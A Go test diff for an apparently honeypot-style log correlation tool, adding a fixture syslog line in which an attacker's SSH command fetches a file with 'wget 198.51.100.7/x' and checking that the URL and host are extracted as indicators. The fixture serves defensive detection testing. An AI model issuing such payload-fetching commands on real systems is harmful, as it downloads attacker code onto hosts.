@@ -309,10 +309,20 @@ func TestLettersRoundTrip(t *testing.T) {
 		t.Fatal(err)
 	}
 	line := `<134>1 2026-01-07T10:00:00+00:00 decky-06 smtp_relay - rcpt_to [relay@55555 src="203.0.113.9" value="<ceo@acme.com>"]`
+	fetch := `<134>1 2026-01-07T10:00:00+00:00 decky-06 ssh - command [relay@55555 src="203.0.113.9" command="wget 198.51.100.7/x"]`
 	if r, err := e.Flush(t.Context(), "tag", chunktest.Lines(recordTime, "log", line)); r != correlate.OK {
 		t.Fatal(r, err)
 	}
-	for _, class := range []commit.Class{correlate.ClassAttacker, correlate.ClassTarget, correlate.ClassActivity} {
+	shown := chunktest.Lines(recordTime, "log", fetch, strings.Replace(fetch, "113.9", "113.8", 1))
+	if r, err := e.Flush(t.Context(), "tag", shown); r != correlate.OK {
+		t.Fatal(r, err)
+	}
+	encoded[correlate.ClassAttacker], encoded[correlate.ClassActivity] = encoded[correlate.ClassAttacker][:1], encoded[correlate.ClassActivity][:1]
+	if n := len(encoded[correlate.ClassIndicator]); n != 2 {
+		t.Fatalf("%d letters of a URL and its host; want 2", n)
+	}
+	encoded[correlate.ClassIndicator] = encoded[correlate.ClassIndicator][:1]
+	for _, class := range []commit.Class{correlate.ClassAttacker, correlate.ClassTarget, correlate.ClassActivity, correlate.ClassIndicator} {
 		if len(encoded[class]) != 1 {
 			t.Fatalf("class %d: %d letters; want 1", class, len(encoded[class]))
 		}
